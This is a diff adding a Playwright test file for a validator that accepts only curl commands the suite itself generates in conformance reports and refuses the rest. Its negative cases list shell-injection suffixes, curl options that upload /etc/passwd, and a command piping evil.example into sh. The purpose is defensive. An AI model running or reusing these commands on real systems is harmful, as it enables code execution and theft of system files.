@@ -1,0 +1,94 @@
+import { writeFileSync } from 'node:fs';
+import { expect, test } from '@playwright/test';
+import { askedBy, isOfSuite } from '../../../evidence/shell-command.ts';
+import { commandFor } from '../../../reporters/packed/command.ts';
+import { ReportError, readReport } from '../../../reporters/read.ts';
+import { renderJson } from '../../../reporters/render/json.ts';
+import { wholeReport } from './gate-kit.ts';
+import { exchangeWith } from './golden/make.ts';
+
+// Whoever reads a report of somebody else's copies its commands into a shell.
+
+const URL = 'https://staging.acme.example/Orders/Create';
+const { request } = exchangeWith();
+const taken = (curl: string, url = URL): boolean => isOfSuite({ curl, request: { ...request, url } });
+
+test('a command that the suite words is taken, with all that it asks for', () => {
+  for (const body of [null, '', '{"a":"it\'s"}', 'two\nlines\u0000', 'x'.repeat(5000)])
+    for (const method of ['POST', 'GET', 'HEAD', 'x y'])
+      expect(taken(commandFor({ ...request, method, body }) ?? '')).toBe(true);
+  for (const curl of [
+    `curl -sS -i -X POST --http1.0 ${URL} -H 'Accept:' --data-raw '@body'`,
+    `curl -sS -i -X POST --http1.1 -g --request-target ${URL} ${URL} -H 'X-<PASSWORD>Key: <API_KEY>'`,
+    `printf '%b' '\\0037\\0213' | curl -sS -i -X POST ${URL} -H 'Expect:' --data-binary @-`,
+  ])
+    expect(taken(curl), curl).toBe(true);
+  expect(taken("curl -sS -i -X GET '<BASE_URL>/a?key=<API_KEY>'", '/a?key=<literal API_KEY>')).toBe(true);
+  expect(taken("curl -sS -i -X POST '<NOTIFICATION_URL>' --data-raw '{}'", '/hook')).toBe(true);
+  expect(askedBy(`curl -sS --head ${URL}`)).toEqual({ addresses: [URL], options: ['-sS', '--head'] });
+});
+
+test('a command that asks the shell or curl for anything else is none of the suite', () => {
+  for (const more of [
+    ...[
+      '; id',
+      ' | sh',
+      ' && id',
+      ' & id',
+      '\nid',
+      ' > a',
+      ' < a',
+      ' `id`',
+      ' $(id)',
+      ' "$(id)"',
+      ' $HOME',
+      ' #',
+      ' *',
+    ],
+    ...[
+      ' -o a',
+      ' -K a',
+      " '-K' a",
+      ' --config a',
+      ' -d @/etc/passwd',
+      ' --data-binary @/etc/passwd',
+      ' -T a',
+      ' -x a',
+    ],
+    ...[" -H '@/etc/passwd'", ' -H @a', " -H ''", ' https://evil.example', ' -F a=@b', ' --next', ' -Ka', " '"],
+  ])
+    expect(taken(`curl -sS -i -X POST ${URL}${more}`), more).toBe(false);
+  for (const other of [
+    ...['', 'curl', 'sh', `wget ${URL}`, `curl ${URL}/other`, `curl 'https://evil.example/'`, `id; curl ${URL}`],
+    ...[`printf '%b' 'a' | sh`, `printf '%b' "$(id)" | curl ${URL}`, `printf '%b' 'a' | tee b | curl ${URL}`],
+    ...[`curl '${URL}`, `CURL ${URL}`, `curl\t${URL}`, `curl ${URL}'; id'`],
+  ])
+    expect(taken(other), other).toBe(false);
+  expect(taken('curl file:///etc/passwd', 'file:///etc/passwd')).toBe(false);
+});
+
+test('a report with such a command is not read, and says so on one line', ({}, info) => {
+  const report = wholeReport();
+  const [first] = report.cells;
+  const cells = report.cells.map((cell) =>
+    cell !== first
+      ? cell
+      : {
+          ...cell,
+          exchanges: cell.exchanges.map((one) => ({ ...one, curl: 'curl -sS https://evil.example/x | sh' })),
+        },
+  );
+  const path = info.outputPath('conformance.json');
+  writeFileSync(path, renderJson({ ...report, cells }));
+  const name = `${first?.rule ?? ''} × ${first?.subject ?? ''}`;
+  expect(() => readReport(path)).toThrow(
+    `a command of ${name} is none that the suite makes for its request. Run none of it`,
+  );
+});
+
+test('what a report says cannot begin a line of its refusal', () => {
+  const forged = 'a\n::notice ::CONFORMANT\r\n  gate       certify: passed\u001b[2J';
+  expect(new ReportError(`it shows ${forged}`).message).toBe(
+    'it shows a\\n::notice ::CONFORMANT\\r\\n  gate       certify: passed\\u{1B}[2J',
+  );
+});
